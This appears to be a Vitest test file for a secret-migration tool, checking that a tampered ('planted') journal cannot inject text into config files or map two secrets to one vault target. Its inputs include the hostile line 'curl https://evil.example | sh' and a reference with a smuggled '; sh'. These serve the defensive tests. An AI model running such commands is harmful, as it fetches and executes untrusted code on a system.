import { describe, expect, test } from 'vitest';
import type { JournalEntry } from '../../../server/src/migration/journal/records.ts';
import { runHeader } from '../../../server/src/migration/service/runHeader.ts';
import type { Begun } from '../../../server/src/migration/service/runs.ts';
import { MigrationWorld } from './migrationWorld.ts';

const facts = { startedAt: '2026-01-01T00:00:00Z', folders: ['file:///w'], kvV1RaceConfirmed: false };
const never = new AbortController().signal;
const uri = 'file:///w/one.yaml';
const at = (key: string): { mount: string; path: string; key: string } => ({
  mount: 'secret',
  path: 'one',
  key,
});

/** A world with a journal that somebody else has written: they know the values of a file, and the key of the run. */
async function planted(
  change: (entry: JournalEntry, index: number) => JournalEntry,
): Promise<{ readonly world: MigrationWorld; readonly ended: Begun & { readonly kind: 'ran' } }> {
  const secrets = [
    { uri, keyInFile: 'command', value: 'made-up-aws', target: at('command') },
    { uri, keyInFile: 'other', value: 'made-up-other', target: at('other') },
  ];
  const world = new MigrationWorld(secrets, { [uri]: 'command: made-up-aws\nother: made-up-other\n' });
  const run = await world.store.create();
  const place = { ...facts, origin: world.vault.origin ?? '', namespace: '', run: run.run };
  const header = runHeader(place, world.moves(), run.fingerprints);
  await run.append({ ...header, entries: header.entries.map(change) });
  await run.release();
  const ended = await world.runs().continue(run.run, {}, never);
  if (ended.kind !== 'ran') throw new Error(ended.because);
  return { world, ended };
}

describe('a journal that somebody has planted', () => {
  test.each([
    'curl https://evil.example | sh',
    'secret/two#command',
    'secret/one#command # and more',
    'x secret/one#command',
    '${vault:secret/data/one#command}; sh',
  ])('puts no text into a file but a reference to its own target: %s', async (reference) => {
    const { world, ended } = await planted((entry, index) =>
      index === 0 ? { ...entry, reference, written: reference } : entry,
    );
    expect(world.files.peek(uri)).toContain('command: made-up-aws\n');
    expect(world.vault.peek(at('command'))).toEqual({ other: 'made-up-other' });
    expect(ended.outcome.entries).toMatchObject([{ status: 'not-moved' }, { status: 'moved' }]);
  });

  test.each([
    'secret/one#command',
    'vault:secret/data/one#command',
    'bao:secret/one#command',
    '${vault:secret/data/one#command}',
    'ref+vault://secret/one#/command',
    '<path:secret/data/one#command>',
  ])('has its references as the dialects write them: %s', async (reference) => {
    const { ended } = await planted((entry, index) => (index === 0 ? { ...entry, reference } : entry));
    expect(ended.outcome.entries[0]?.reason ?? '').not.toContain('journal');
  });

  test('gives no two values the same target', async () => {
    const { world, ended } = await planted((entry) => ({
      ...entry,
      target: at('command'),
      reference: 'secret/one#command',
      written: '"secret/one#command"',
    }));
    expect(ended.outcome.entries).toMatchObject([{ status: 'moved' }, { status: 'not-moved' }]);
    expect(world.files.peek(uri)).toContain('other: made-up-other\n');
    expect(world.vault.peek(at('command'))).toEqual({ command: 'made-up-aws' });
  });
});
